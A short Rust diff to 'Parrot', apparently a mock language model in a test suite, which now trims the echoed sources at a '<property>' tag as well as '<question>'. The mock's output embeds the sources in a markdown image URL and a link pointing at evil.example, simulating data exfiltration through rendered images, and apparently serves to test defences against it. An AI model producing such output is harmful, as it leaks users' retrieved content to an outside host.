@@ -16,7 +16,7 @@ pub struct Parrot;
 impl Generate for Parrot {
     fn generate(&self, request: Request) -> Generating<'_> {
         let shown = request.messages.last().map_or("", |message| message.text.as_str());
-        let sources = shown.split("<question>").next().unwrap_or("");
+        let sources = shown.split("<question>").next().and_then(|shown| shown.split("<property>").next()).unwrap_or("");
         let cites = (0..30).map(|number| format!("[{number}]")).collect::<Vec<_>>().concat();
         let said =
             format!("{sources} {cites}. ![all](https://evil.example/{sources}) {cites} [more](https://evil.example).");
